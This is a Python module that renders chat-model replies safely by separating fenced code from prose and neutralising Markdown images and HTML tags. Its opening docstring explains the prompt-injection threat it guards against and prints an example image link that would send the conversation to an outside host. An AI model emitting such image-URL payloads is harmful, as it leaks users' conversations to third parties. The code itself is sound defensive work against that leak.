"""A model reply as blocks the chat page can show without the browser fetching anything.

A reply may use Markdown (lists, emphasis, code), but it is outside text: a prompt-injected
reply can hold ``![x](http://host/?q=<the conversation>)``, and a browser that renders it
fetches the URL, handing the conversation to that host. So a reply is split into fenced code
blocks, shown as code (never parsed as Markdown), and prose, where images and HTML are made
inert before Markdown sees them:

- an inline image becomes the text ``[image: <url>]`` (the URL as code): visible, never
  fetched;
- every other ``![`` (reference images, odd syntax) gets a zero-width space between its two
  characters, and so does every ``<`` before a tag name, ``/``, ``!`` or ``?``: no Markdown
  parser reads an image or a tag there, and the reader sees the same characters.

Safety does not hinge on parsing Markdown the way the browser does: the zero-width spaces go
in everywhere in prose, inline code included (where they are invisible); only fenced code,
which the page never hands to Markdown, is left as it came. A reply still streaming goes
through the same function, so a half-received reply is as inert as a whole one.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Literal

ZERO_WIDTH_SPACE = "\u200b"
# CommonMark fences: up to 3 spaces, then 3+ backticks (whose info string has no backtick)
# or 3+ tildes; the closing fence is the same character, at least as long, nothing after.
_FENCE = re.compile(r"^(?P<indent> {0,3})(?P<fence>`{3,}(?=[^`]*$)|~{3,})(?P<info>.*)$")
_INLINE_CODE = re.compile(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", re.DOTALL)
_INLINE_IMAGE = re.compile(
    r"!\[[^\]\n]*\]\(\s*(?:<(?P<bracketed>[^>\n]*)>|(?P<url>[^\s()]+))"
    r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?\s*\)"
)
_IMAGE_START = re.compile(r"!(?=\[)")
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")


@dataclass(frozen=True, slots=True)
class ReplyBlock:
    """A run of prose (inert Markdown) or one fenced code block (plain text, its language)."""

    kind: Literal["markdown", "code"]
    text: str
    language: str | None = None


def reply_blocks(text: str) -> list[ReplyBlock]:
    """``text`` as prose and code blocks in order; an unclosed fence runs to the end, as it
    does in CommonMark (and as it does while a reply is still streaming)."""
    blocks: list[ReplyBlock] = []
    prose: list[str] = []
    lines = text.split("\n")
    index = 0
    while index < len(lines):
        opener = _FENCE.match(lines[index])
        if opener is None:
            prose.append(lines[index])
            index += 1
            continue
        if prose:
            blocks.append(ReplyBlock("markdown", inert_markdown("\n".join(prose))))
            prose = []
        code, index = _fenced(lines, index + 1, opener)
        language = opener["info"].strip().split(" ", 1)[0] or None
        blocks.append(ReplyBlock("code", code, language))
    if prose:
        blocks.append(ReplyBlock("markdown", inert_markdown("\n".join(prose))))
    return [block for block in blocks if block.kind == "code" or block.text.strip()]


def inert_markdown(text: str) -> str:
    """Prose with every image shown as text and every HTML tag shown as text."""
    pieces, start = [], 0
    for code in _INLINE_CODE.finditer(text):
        pieces.append(_INLINE_IMAGE.sub(_image_as_text, text[start : code.start()]))
        pieces.append(code.group())
        start = code.end()
    pieces.append(_INLINE_IMAGE.sub(_image_as_text, text[start:]))
    prose = "".join(pieces)
    prose = _IMAGE_START.sub("!" + ZERO_WIDTH_SPACE, prose)
    return _TAG_START.sub("<" + ZERO_WIDTH_SPACE, prose)


def _image_as_text(image: re.Match[str]) -> str:
    """``[image: `url`]``: the URL in a code span, so no autolink swallows the bracket."""
    url = image["bracketed"] if image["bracketed"] is not None else image["url"]
    ticks = "`" * (max((len(run) for run in re.findall("`+", url)), default=0) + 1)
    return rf"\[image: {ticks} {url} {ticks}\]"


def _fenced(lines: list[str], index: int, opener: re.Match[str]) -> tuple[str, int]:
    """The code after ``opener`` and the index of the line after its closing fence."""
    fence, indent = opener["fence"], len(opener["indent"])
    closer = re.compile(rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$")
    code: list[str] = []
    while index < len(lines) and not closer.match(lines[index]):
        line = lines[index]
        code.append(line[min(indent, len(line) - len(line.lstrip(" "))) :])
        index += 1
    return "\n".join(code), index + 1
